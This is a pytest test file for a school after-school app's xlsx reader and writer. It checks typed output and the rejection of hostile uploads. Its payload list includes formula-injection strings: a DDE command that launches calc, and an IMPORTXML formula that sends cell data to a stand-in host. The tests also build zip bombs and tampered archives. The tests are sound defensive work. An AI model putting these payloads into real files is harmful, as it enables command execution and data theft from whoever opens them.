"""The door to spreadsheets: typed cells out, guarded uploads in, and text that stays text."""

import datetime as dt
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from afterschool import xlsx
from afterschool.money import Money
from afterschool.xlsx import Column, Formula, Sheet, Unreadable, read_xlsx, write_xlsx

ATTACKS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid","王浩")',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "#REF!",
    "'=1+1",
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
]
COLUMNS = [
    Column("姓名", width=12),
    Column("金额", "money", total=True),
    Column("天数", "int", total=True),
    Column("日期", "date"),
    Column("时间", "time"),
]
LEDGER = Sheet(
    "11月收支",
    COLUMNS,
    [
        ["张㛃", Money(20_000), 17, dt.date(2026, 11, 3), dt.time(17, 42)],
        ["欧阳思远", 159_037, 16, dt.date(2026, 11, 4), None],
    ],
    titles=["海棠路小学 2026年11月", "单位：元"],
)


def opened(sheet: Sheet):
    return load_workbook(io.BytesIO(write_xlsx([sheet]))).active


def read(data: bytes):
    return read_xlsx(io.BytesIO(data))


def roundtrip(*texts: str):
    return [row.cells[0] for row in read(write_xlsx([Sheet("名册", [Column("姓名")], [[text] for text in texts])]))][1:]


def a_book(**parts: bytes | str) -> bytes:
    """A small workbook with some of its parts replaced."""
    plain, made = io.BytesIO(write_xlsx([Sheet("名册", [Column("姓名")], [["王浩"]])])), io.BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, parts.pop(Path(name).stem, None) or old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


def a_sheet(rows: str) -> str:
    return f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>'


# Out


def test_money_is_a_number_with_two_decimals_and_the_total_adds_up():
    page = opened(LEDGER)

    assert [page["B4"].value, page["B5"].value, page["B6"].value] == [200, 1590.37, 1790.37]
    assert {page[f"B{row}"].number_format for row in (4, 5, 6)} == {"#,##0.00"}
    assert [page["A6"].value, page["C6"].value] == ["合计", 33]


def test_dates_and_hours_are_real_ones():
    page = opened(LEDGER)

    assert page["D4"].value == dt.datetime.fromisoformat("2026-11-03")
    assert page["E4"].value == dt.time(17, 42)
    assert page["E5"].value is None


def test_the_head_is_filtered_frozen_and_printed_on_every_page():
    page = opened(LEDGER)

    assert page.auto_filter.ref == "A3:E5"
    assert page.freeze_panes == "A4"
    assert page.print_title_rows == "$3:$3"
    assert (page.page_setup.orientation, str(page.page_setup.paperSize)) == ("landscape", "9")
    assert page.sheet_properties.pageSetUpPr.fitToPage


def test_a_sheet_without_rows_is_still_a_sheet():
    page = opened(Sheet("a/b[1]", COLUMNS, []))

    assert page.title == "a b 1 "
    assert page["B2"].value == 0


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_looks_like_a_formula_stays_text_there_and_back(attack):
    data = write_xlsx([Sheet("名册", [Column("姓名")], [[attack]], titles=[attack])])
    cell = load_workbook(io.BytesIO(data)).active["A3"]
    inside = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")

    assert cell.data_type == "s"
    assert not xlsx.FORMULA.search(inside)
    assert cell.quotePrefix == attack.startswith((*xlsx.FORMULA_SIGNS, "\r"))
    (back,) = roundtrip(attack)
    assert back == attack.replace("\r", "\n")
    assert not isinstance(back, Formula)


def test_signs_that_no_spreadsheet_can_hold_are_left_out():
    assert roundtrip("王\x00浩\x0b") == ["王浩"]


# In


def test_rows_keep_their_numbers_and_values_their_types():
    first, *_ = rows = read(write_xlsx([LEDGER]))

    assert [row.number for row in rows] == [1, 2, 3, 4, 5, 6]
    assert first.cells[0] == "海棠路小学 2026年11月"
    assert rows[3].cells == ("张㛃", 200, 17, dt.date(2026, 11, 3), dt.time(17, 42))


def test_a_register_as_a_tired_office_sends_it():
    book = Workbook()
    for row in [
        ["序号", "姓名", "电话", "出生日期"],
        [1, "王浩", 15881064571, dt.date(2016, 3, 5)],
        [],
        [2, '=HYPERLINK("http://example.invalid","王浩")', " １３８ ", "2016.3.5"],
    ]:
        book.active.append(row)
    book.active["E4"] = "=文字"
    book.active["E4"].data_type = "s"
    file = io.BytesIO()
    book.save(file)

    head, first, last = read(file.getvalue())

    assert head.cells == ("序号", "姓名", "电话", "出生日期", "")
    assert first.cells == (1, "王浩", 15881064571, dt.date(2016, 3, 5), "")
    assert last == xlsx.Row(4, (2, '=HYPERLINK("http://example.invalid","王浩")', " １３８ ", "2016.3.5", "=文字"))
    assert [isinstance(cell, Formula) for cell in last.cells] == [False, True, False, False, False]
    assert not isinstance(first.cells[1], Formula)


def test_leading_empty_rows_and_columns_do_not_shift_the_count():
    book = Workbook()
    book.active["C5"] = "王浩"
    book.active["D5"] = "=A1"
    file = io.BytesIO()
    book.save(file)

    assert read(file.getvalue()) == [xlsx.Row(5, ("", "", "王浩", "=A1"))]


# Refused


def far_out_cell():
    return a_book(sheet1=a_sheet('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>远</t></is></c></row>'))


def one_text_in_many_cells():
    text = (
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{"长" * 30_000}</t></si></sst>'
    )
    rows = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 6000))
    return a_book(**{"sheet1": a_sheet(rows), "xl/sharedStrings.xml": text})


def a_lying_directory():
    data = bytearray(a_book(**{"xl/more.xml": b"0" * 3_000_000}))
    entry = data.rindex(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = (10).to_bytes(4, "little")
    return bytes(data)


@pytest.mark.parametrize(
    "make, says",
    [
        (lambda: b"PK" + b"0" * xlsx.LARGEST_FILE, "超过 5 MB"),
        (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "旧格式"),
        (lambda: b"", "不是 .xlsx"),
        (lambda: "姓名,年级\n王浩,3".encode("gbk"), "不是 .xlsx"),
        (lambda: a_book()[:-40], "不是 .xlsx"),
        (lambda: a_book(**{f"xl/{n}.xml": "x" for n in range(300)}), "不是 .xlsx"),
        (lambda: a_book(workbook="<workbook"), "打不开"),
        (lambda: a_book(**{"xl/bomb.xml": b"0" * 80_000_000}), "展开后太大"),
        (lambda: a_book(**{"xl/bomb.xml": b"0" * 20_000_000}), "展开后太大"),
        (a_lying_directory, "不是 .xlsx"),
        (far_out_cell, "表太大"),
        (one_text_in_many_cells, "表太大"),
    ],
)
def test_a_file_that_is_none_of_ours_is_refused_with_a_reason(make, says):
    with pytest.raises(Unreadable, match=says):
        read(make())


def test_a_zip_that_holds_no_workbook_is_refused():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("content.xml", "<x/>")

    with pytest.raises(Unreadable, match=r"不是 \.xlsx"):
        read(file.getvalue())


def test_the_same_sheets_give_the_same_bytes_whenever_they_are_written(time_machine):
    sheets = [Sheet("名册", COLUMNS, [])]
    time_machine.move_to("2026-10-31")
    before = write_xlsx(sheets)
    time_machine.move_to("2027-01-22")

    assert write_xlsx(sheets) == before
